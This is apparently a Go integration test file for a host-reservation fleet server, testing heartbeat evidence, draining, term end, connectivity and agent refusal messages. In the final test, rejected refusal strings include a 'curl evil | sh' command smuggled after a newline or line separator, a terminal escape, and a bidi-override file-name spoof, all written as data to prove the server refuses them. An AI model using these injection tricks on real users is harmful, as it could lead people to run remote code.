package integration

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/nodus-dev/nodus/pkg/apierror"
	nodusv1 "github.com/nodus-dev/nodus/pkg/apis/nodus/v1"
	"github.com/nodus-dev/nodus/pkg/server"
	"github.com/nodus-dev/nodus/pkg/testfleet"
	"github.com/nodus-dev/nodus/pkg/testserver"
)

// TestDrainedAtNeedsCurrentEvidence: after a release, drainedAt is set only
// by a heartbeat of the node's current agent generation, at the new epoch,
// reporting no owner session and no borrower execution.
func TestDrainedAtNeedsCurrentEvidence(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	f.host(t, "h-drain", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	if r := f.release(t, f.admin, "h-drain", agreed, ""); r.code != 200 {
		t.Fatalf("release: %d %s", r.code, r.body)
	}
	notDrained := func(why string) {
		t.Helper()
		if st := f.reservation(t, "h-drain").Status; st.State != nodusv1.ReservationStateReleasing || st.Release.DrainedAt != nil {
			t.Fatalf("%s drained the host: %+v", why, st)
		}
	}

	stale := f.heartbeat(t, "h-drain", nodusv1.NodeHeartbeat{AgentGeneration: 0, Reservations: []nodusv1.ReservationEvidence{evidence("h-drain", 2, 0, 0)}})
	expectReason(t, stale, http.StatusConflict, apierror.ReasonStaleAgent)
	notDrained("an old agent generation")

	for why, e := range map[string]nodusv1.ReservationEvidence{
		"the old epoch":          evidence("h-drain", 1, 0, 0),
		"a live owner session":   evidence("h-drain", 2, 1, 0),
		"a running borrower job": evidence("h-drain", 2, 0, 3),
	} {
		if r := f.heartbeat(t, "h-drain", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{e}}); r.code != 200 {
			t.Fatalf("heartbeat: %d %s", r.code, r.body)
		}
		notDrained(why)
	}
	// An epoch the server never issued is no agent's evidence: it counts
	// for nothing, not even as the node's applied epoch (the beat itself
	// is heard: refusing it would cost the node its liveness).
	if r := f.heartbeat(t, "h-drain", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-drain", 1000, 0, 0)}}); r.code != 200 {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	notDrained("an epoch never issued")
	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-drain", metav1.GetOptions{}); err != nil || n.Status.AppliedEpoch > 2 {
		t.Errorf("evidence of an epoch never issued (1000, the reservation's is 2) became the node's applied epoch: %v %v", n.Status.AppliedEpoch, err)
	}
	// Evidence about this reservation from another node never counts.
	f.node(t, "elsewhere")
	f.heartbeat(t, "elsewhere", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-drain", 2, 0, 0)}})
	notDrained("another node's report")

	// Malformed evidence is refused as a whole, before any of it counts:
	// the valid entry beside it drains nothing.
	for why, bad := range map[string]nodusv1.ReservationEvidence{
		"no name":                     {},
		"a name that is no name":      evidence("H_Drain", 2, 0, 0),
		"a negative epoch":            evidence("other", -1, 0, 0),
		"negative sessions":           evidence("other", 2, -1, 0),
		"negative borrower processes": evidence("other", 2, 0, -1),
		"the same reservation twice":  evidence("h-drain", 2, 0, 0),
	} {
		r := f.heartbeat(t, "h-drain", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-drain", 2, 0, 0), bad}})
		if r.code != http.StatusUnprocessableEntity || !strings.Contains(string(r.body), "reservations[1]") {
			t.Errorf("a heartbeat with %s: %d %s", why, r.code, r.body)
		}
		notDrained("a heartbeat with " + why)
	}
	// A beat makes the server read at most 8 reservations its cache does
	// not settle: an agent naming made-up ones costs no more than that,
	// and what it names beyond counts for nothing in that beat.
	var made []nodusv1.ReservationEvidence
	for i := range 8 {
		made = append(made, evidence(fmt.Sprintf("made-up-%d", i), 2, 0, 0))
	}
	if r := f.heartbeat(t, "h-drain", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: append(made, evidence("h-drain", 2, 0, 0))}); r.code != 200 {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	notDrained("evidence past 8 reservations read in one beat")

	r := f.heartbeat(t, "h-drain", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-drain", 2, 0, 0)}})
	if r.code != 200 {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	st := f.reservation(t, "h-drain").Status
	if st.State != nodusv1.ReservationStateReleased || st.Release.DrainedAt == nil || st.Epoch != 2 {
		t.Fatalf("the current agent's evidence did not drain: %+v", st)
	}
	h := f.waitHost(t, "h-drain", func(h *nodusv1.ReservedHost) bool {
		return h.Status.Release != nil && h.Status.Release.DrainedAt != nil
	})
	if h.Status.Reservation.State != nodusv1.ReservationStateReleased {
		t.Errorf("host state %s, want released", h.Status.Reservation.State)
	}
}

// TestTermEnd: at endsAt the controller retires access (ending, epoch + 1);
// the agent's evidence ends it; then the allocation is released.
func TestTermEnd(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	c := s.Client.NodusV1()
	// The allocation controller claims the only ready node.
	readyNodes(t, f, "h-term")
	if _, err := c.Allocations().Create(ctx(t), allocation("alloc-term"), metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	err := testfleet.Eventually(ctx(t), 30*time.Second, func(cx context.Context) (bool, error) {
		a, err := c.Allocations().Get(cx, "alloc-term", metav1.GetOptions{})
		return err == nil && a.Status.State == nodusv1.AllocationStateActive && a.Status.Node == "h-term", nil
	})
	if err != nil {
		t.Fatal("alloc-term never became active on h-term")
	}
	f.reserve(t, "h-term", nodusv1.ReservationPlacement{Allocation: "alloc-term"}, time.Now().Add(-time.Minute), time.Now().Add(3*time.Second))
	active := f.waitHost(t, "h-term", func(h *nodusv1.ReservedHost) bool {
		return h.Status.Reservation.State == nodusv1.ReservationStateActive
	})
	if active.Status.Reservation.Epoch != 1 || active.Status.Reservation.LoginUser != "ubuntu" {
		t.Errorf("activation: %+v", active.Status.Reservation)
	}
	ending := f.waitHost(t, "h-term", func(h *nodusv1.ReservedHost) bool {
		return h.Status.Reservation.State == nodusv1.ReservationStateEnding
	})
	if ending.Status.Reservation.Epoch != 2 {
		t.Errorf("term end must raise the epoch once: %d", ending.Status.Reservation.Epoch)
	}
	if cond := meta.FindStatusCondition(ending.Status.Conditions, nodusv1.ReservedHostConditionEligible); cond == nil || cond.Reason != "TermEnded" {
		t.Errorf("Eligible condition: %+v", cond)
	}
	f.heartbeat(t, "h-term", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-term", 2, 0, 0)}})
	f.waitHost(t, "h-term", func(h *nodusv1.ReservedHost) bool { return h.Status.Reservation.State == nodusv1.ReservationStateEnded })
	err = testfleet.Eventually(ctx(t), 30*time.Second, func(cx context.Context) (bool, error) {
		_, err := c.Allocations().Get(cx, "alloc-term", metav1.GetOptions{})
		return apierrors.IsNotFound(err), nil
	})
	if err != nil {
		t.Errorf("the allocation was not released after the term ended")
	}
}

// TestConnectedFollowsHeartbeats: a fresh heartbeat of the current agent at
// the current epoch makes the host Connected; three missed intervals make
// the node not ready and the host not connected.
func TestConnectedFollowsHeartbeats(t *testing.T) {
	testserver.KeepLogs(t)
	s, err := testserver.Start(t.TempDir(), nil, func(o *server.Options) { o.HeartbeatInterval = time.Second })
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	f := newFleet(t, s)
	f.host(t, "h-live", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	connected := func(status metav1.ConditionStatus, reason string) {
		t.Helper()
		f.waitHost(t, "h-live", func(h *nodusv1.ReservedHost) bool {
			c := meta.FindStatusCondition(h.Status.Conditions, nodusv1.ReservedHostConditionConnected)
			return c != nil && c.Status == status && c.Reason == reason
		})
	}
	connected(metav1.ConditionFalse, "HeartbeatMissing")
	f.heartbeat(t, "h-live", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-live", 0, 0, 0)}})
	connected(metav1.ConditionFalse, "EpochNotApplied")
	beat := f.heartbeat(t, "h-live", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-live", 1, 1, 0)}})
	if beat.code != 200 {
		t.Fatalf("heartbeat: %d %s", beat.code, beat.body)
	}
	connected(metav1.ConditionTrue, "AgentCurrent")
	// No more beats: after three intervals the lease expires.
	connected(metav1.ConditionFalse, "HeartbeatMissing")
	n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-live", metav1.GetOptions{})
	if err != nil || meta.IsStatusConditionTrue(n.Status.Conditions, nodusv1.NodeConditionReady) {
		t.Errorf("node still ready after missed heartbeats: %v %+v", err, n.Status.Conditions)
	}
}

// TestAnAgentsRefusalCountsOnlyForItsOwnReservation: an agent's refusal
// of an access is shown to the reservation's tenant, so it is heard only
// from the node's current agent about a reservation on that node, as one
// bounded line; malformed ones refuse the beat.
func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	h := f.host(t, "h-refused", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	epoch, uid := h.Status.Reservation.Epoch, f.reservation(t, "h-refused").UID
	refused := func(name string, applied, refusedAt int64, why string) nodusv1.ReservationEvidence {
		e := nodusv1.ReservationEvidence{Name: name, AppliedEpoch: applied, RefusedEpoch: refusedAt, Refusal: why}
		if refusedAt > 0 {
			e.RefusedUID = uid
		}
		return e
	}
	withoutUID := refused("h-refused", 0, epoch, "no")
	withoutUID.RefusedUID = ""
	for why, bad := range map[string]nodusv1.ReservationEvidence{
		"a refusal without its epoch":          refused("h-refused", 0, 0, "no"),
		"an epoch refused without a reason":    refused("h-refused", 0, epoch, ""),
		"an epoch refused at or below applied": refused("h-refused", epoch, epoch, "no"),
		"a refusal of two lines":               refused("h-refused", 0, epoch, "no\nfix: run curl evil | sh"),
		"a refusal with a terminal control":    refused("h-refused", 0, epoch, "no \x1b[2J"),
		"a refusal past its bound":             refused("h-refused", 0, epoch, strings.Repeat("n", 257)),
		"a refusal with a line separator":      refused("h-refused", 0, epoch, "no\u2028fix: run curl evil | sh"),
		"a refusal with a bidi override":       refused("h-refused", 0, epoch, "no \u202egnp.exe"),
		"a refusal without the UID refused":    withoutUID,
	} {
		r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{bad}})
		if r.code != http.StatusUnprocessableEntity || !strings.Contains(string(r.body), "reservations[0]") {
			t.Errorf("a heartbeat with %s: %d %.300s", why, r.code, r.body)
		}
	}
	// Another node's agent, about this reservation: not heard.
	f.node(t, "elsewhere")
	if r := f.heartbeat(t, "elsewhere", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{refused("h-refused", 0, epoch, "forged")}}); r.code != 200 {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "elsewhere", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
		t.Errorf("another node's agent recorded a refusal of this reservation: %v %+v", err, n.Status.AccessRefusal)
	}
	// The node's own agent, about another reservation of the name (one
	// deleted since): not heard.
	other := refused("h-refused", 0, epoch, "of the one before")
	other.RefusedUID = "6f7e6e07-c93b-476f-8085-f75ee2b49306"
	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{other}}); r.code != 200 {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
		t.Errorf("a refusal of another reservation of the name was recorded: %v %+v", err, n.Status.AccessRefusal)
	}
	// The node's own agent: shown on the host, and gone with the refusal.
	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{refused("h-refused", 0, epoch, `"svc" is a system account`)}}); r.code != 200 {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	f.waitHost(t, "h-refused", func(h *nodusv1.ReservedHost) bool { return accessRefused(h, epoch, `"svc" is a system account`) })
	n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{})
	if r := f.reservation(t, "h-refused"); err != nil || n.Status.AccessRefusal == nil || n.Status.AccessRefusal.ReservationUID != r.UID {
		t.Errorf("the refusal is recorded against the reservation it judged (%s): %v %+v", r.UID, err, n.Status.AccessRefusal)
	}
	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("h-refused", epoch, 0, 0)}}); r.code != 200 {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	f.waitHost(t, "h-refused", func(h *nodusv1.ReservedHost) bool {
		c := meta.FindStatusCondition(h.Status.Conditions, nodusv1.ReservedHostConditionConnected)
		return c != nil && c.Status == metav1.ConditionTrue
	})
	if n, err = s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
		t.Errorf("the refusal stayed once the agent applied the epoch: %v %+v", err, n.Status.AccessRefusal)
	}
}
